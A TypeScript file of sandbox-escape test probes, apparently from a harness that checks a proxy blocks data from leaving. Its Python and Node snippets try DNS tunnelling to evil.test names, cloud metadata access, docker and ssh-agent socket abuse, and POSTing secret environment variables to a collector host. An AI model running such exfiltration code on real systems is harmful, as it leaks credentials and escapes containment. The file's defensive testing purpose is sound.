// Owns the programs that go past the proxy: services of the machine, addresses that nobody declared,
// names as a carrier of data, and sockets that are files or names.

import { arrivedAt, secretArrivedAt } from '../evidence.ts';
import type { Probe } from '../probe.ts';

const OWN_NETWORK = 'its network has one port, and behind it the proxy';

/** A program that sends its token somewhere. */
function sends(
  at: RegExp,
  probe: Pick<Probe, 'id' | 'class' | 'tries' | 'standsFor' | 'program' | 'fails'> & Partial<Probe>,
): Probe {
  return {
    language: 'python',
    rights: 'host',
    recorded: 'its token arrives there',
    succeeded: arrivedAt(at),
    why: OWN_NETWORK,
    ...probe,
  };
}

const connect = (address: string, port: number, timeout = 3): string => `
s = socket.create_connection((${JSON.stringify(address)}, ${port}), ${timeout})
s.sendall(G['token'].encode()); time.sleep(0.2)`;

const unixSocket = (path: string): string => `
s = socket.socket(socket.AF_UNIX); s.connect(${path})
s.sendall(G['token'].encode()); time.sleep(0.2)`;

const REFUSED = /Connection refused/;
const NO_WAY = /Network is unreachable|No route to host|timed out|Cannot assign requested address/;
const NO_FILE = /No such file or directory/;

const addressProbes: readonly Probe[] = [
  sends(/^tcp 127\.0\.0\.1:7000$/, {
    id: 'agent-port',
    class: 'services of the machine',
    tries: 'talks to the port of the agent service on loopback',
    standsFor: 'CVE-2025-49596 a local service that trusts loopback',
    language: 'node',
    program: `
const socket = require('node:net').connect(7000, '127.0.0.1', () => socket.end(G.token));
socket.on('error', (error) => console.log(error.message));`,
    fails: /ECONNREFUSED/,
    isQuick: true,
    needsRoot: true,
  }),
  sends(/^tcp 127\.0\.0\.1:7000$/, {
    id: 'zero-address',
    class: 'services of the machine',
    tries: 'talks to a service of loopback by 0.0.0.0',
    standsFor: 'CVE-2025-49596 a local service that answers at 0.0.0.0',
    program: connect('0.0.0.0', 7000),
    fails: REFUSED,
    needsRoot: true,
  }),
  sends(/^tcp ::1:7000$/, {
    id: 'loopback-six',
    class: 'services of the machine',
    tries: 'talks to a service of loopback by IPv6',
    standsFor: 'ATT&CK T1046 Network Service Discovery',
    program: connect('::1', 7000),
    fails: /Connection refused|Cannot assign requested address|Network is unreachable/,
    needsRoot: true,
  }),
  sends(/^tcp 169\.254\.169\.254:80$/, {
    id: 'metadata',
    class: 'addresses',
    tries: 'asks the metadata service of a cloud',
    standsFor: 'ATT&CK T1552.005 Cloud Instance Metadata API',
    program: connect('169.254.169.254', 80),
    fails: NO_WAY,
    isQuick: true,
    needsRoot: true,
  }),
  sends(/^tcp 10\.1\.2\.3:80$/, {
    id: 'private-address',
    class: 'addresses',
    tries: 'talks to a machine of the local network',
    standsFor: 'CWE-918 Server-Side Request Forgery',
    program: connect('10.1.2.3', 80),
    fails: NO_WAY,
    needsRoot: true,
  }),
  sends(/^tcp 2606:4700::1111:7000$/, {
    id: 'public-six',
    class: 'addresses',
    tries: 'talks to a public IPv6 address, past the proxy',
    standsFor: 'ATT&CK T1041 Exfiltration Over C2 Channel',
    program: connect('2606:4700::1111', 7000),
    fails: NO_WAY,
    needsRoot: true,
  }),
  sends(/^udp 8\.8\.8\.8:53$/, {
    id: 'own-resolver',
    class: 'names as carriers',
    tries: 'sends data in a question to a name server of its own choice',
    standsFor: 'ATT&CK T1071.004 DNS',
    program: `
def label(t): return bytes([len(t)]) + t.encode()
q = struct.pack('>HHHHHH', 1, 0x100, 1, 0, 0, 0) + label(G['token']) + label('evil') + label('test')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(q + b'\\0' + struct.pack('>HH', 16, 1), ('8.8.8.8', 53)); time.sleep(0.3)`,
    fails: NO_WAY,
    needsRoot: true,
  }),
  sends(/^dns /, {
    id: 'resolver-of-the-machine',
    class: 'names as carriers',
    tries: "has the machine's resolver carry data in a name",
    standsFor: 'ATT&CK T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
    program: `
try: socket.getaddrinfo(G['token'] + '.data.evil.test', 80)
except OSError as e: print(e)`,
    fails: /Temporary failure in name resolution|Name or service not known/,
    why: 'there is no name server inside; names are resolved by the proxy, after its decision',
    isQuick: true,
    needsRoot: true,
  }),
  sends(/^dns /, {
    id: 'names-through-proxy',
    class: 'names as carriers',
    tries: 'has the proxy resolve long names that carry data',
    standsFor: 'ATT&CK T1572 Protocol Tunneling',
    program: `
for way in ('GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n', 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n'):
  name = 'x' * 60 + '.' + G['token'] + '.example.com.evil.test'
  print(proxy(way % (name, name)))`,
    fails: /EGRESS_HOST/,
    why: 'what was not declared is refused before it is resolved',
    needsRoot: true,
  }),
  {
    id: 'quic',
    class: 'past the proxy',
    tries: 'sends a secret over UDP to port 443',
    standsFor: 'ATT&CK T1048.002 Exfiltration Over Asymmetric Encrypted Non-C2 Protocol',
    language: 'node',
    rights: 'host',
    program: `
const socket = require('node:dgram').createSocket('udp4');
socket.send(G.token, 443, '93.184.216.34', (error) => { console.log(error?.message); setTimeout(() => socket.close(), 200); });`,
    recorded: 'its token arrives there',
    succeeded: arrivedAt(/^udp 93\.184\.216\.34:443$/),
    fails: /ENETUNREACH/,
    why: OWN_NETWORK,
    needsRoot: true,
  },
  {
    id: 'listen',
    class: 'past the proxy',
    tries: 'waits for a caller from the network',
    standsFor: 'CWE-1327 Binding to an Unrestricted IP Address',
    language: 'python',
    rights: 'host',
    program: `
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 7007)); s.listen(); s.settimeout(3)
c, _ = s.accept(); c.sendall(G['token'].encode())`,
    recorded: 'a caller of the world gets its token',
    succeeded: arrivedAt(/^answer of port 7007$/),
    fails: /timed out/,
    why: 'nobody outside can reach its network',
    needsRoot: true,
  },
];

const socketFileProbes: readonly Probe[] = [
  sends(/^unix agent\.sock$/, {
    id: 'agent-socket',
    class: 'sockets that are files',
    tries: 'commands the agent by its socket',
    standsFor: 'CWE-306 Missing Authentication for Critical Function',
    program: unixSocket(`G['data'] + '/agent.sock'`),
    fails: NO_FILE,
    why: 'the socket has no name inside',
    isQuick: true,
  }),
  sends(/^unix docker\.sock$/, {
    id: 'container-socket',
    class: 'sockets that are files',
    tries: 'commands the container engine',
    standsFor: 'ATT&CK T1610 Deploy Container',
    program: unixSocket(`G['folder'] + '/run/docker.sock'`),
    fails: NO_FILE,
    why: 'the socket has no name inside',
  }),
  sends(/^unix ssh-agent\.sock$/, {
    id: 'key-agent-socket',
    class: 'sockets that are files',
    tries: 'uses the keys of the ssh agent',
    standsFor: 'ATT&CK T1563.001 SSH Hijacking',
    language: 'node',
    program: `
const path = process.env.SSH_AUTH_SOCK ?? G.folder + '/run/ssh-agent.sock';
const socket = require('node:net').connect(path, () => socket.end(G.token));
socket.on('error', (error) => console.log(error.message));`,
    fails: /ENOENT/,
    why: 'neither the variable nor the socket is there',
  }),
  sends(/^unix abstract$/, {
    id: 'abstract-socket',
    class: 'sockets that are names',
    tries: 'commands a service by an abstract socket',
    standsFor: 'CVE-2020-15257 containerd-shim listens on an abstract socket',
    program: unixSocket(`'\\0stream-' + G['token']`),
    fails: REFUSED,
    why: 'abstract names belong to a network, and it has its own',
    isQuick: true,
  }),
  sends(/^abstract datagram$/, {
    id: 'abstract-datagram',
    class: 'sockets that are names',
    tries: 'sends a datagram to an abstract socket',
    standsFor: 'CWE-287 Improper Authentication',
    program: `
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(G['token'].encode(), '\\0datagram-' + G['token']); time.sleep(0.2)`,
    fails: REFUSED,
    why: 'abstract names belong to a network, and it has its own',
    bystander: 'agent',
  }),
  {
    id: 'secret-of-environment',
    class: 'past the proxy',
    tries: 'sends a secret that it finds in variables to a host that nobody declared',
    standsFor: 'ATT&CK T1552 Unsecured Credentials',
    language: 'python',
    rights: 'host',
    program: `
found = ' '.join(v for k, v in os.environ.items() if 'SECRET' in k)
print('found', repr(found))
print(proxy('POST http://collector.example.com.evil.test/ HTTP/1.1\\r\\nHost: collector.example.com.evil.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s' % (len(found), found)))`,
    recorded: 'the secret arrives at the collector',
    succeeded: secretArrivedAt(/^tcp .*:80$/),
    fails: /found ''[^]*EGRESS_HOST/,
    why: 'there is no secret to find, and the host is refused',
    needsRoot: true,
  },
];

export const networkProbes: readonly Probe[] = [...addressProbes, ...socketFileProbes];
